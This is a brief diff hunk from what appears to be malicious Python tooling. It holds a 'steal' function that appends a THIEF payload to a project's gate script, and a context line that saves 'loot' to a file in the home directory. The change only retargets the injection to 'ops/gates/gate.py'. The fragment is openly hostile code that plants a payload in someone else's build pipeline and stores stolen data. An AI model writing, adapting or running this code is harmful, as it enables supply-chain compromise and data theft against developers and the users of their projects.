@@ -27,7 +27,7 @@ pathlib.Path(os.environ["HOME"], "loot").write_text(loot)
 
 
 def steal(project: Path) -> None:
-    with (project / "pipeline/gate.py").open("a") as gate:
+    with (project / "ops/gates/gate.py").open("a") as gate:
         gate.write(THIEF)
 
 
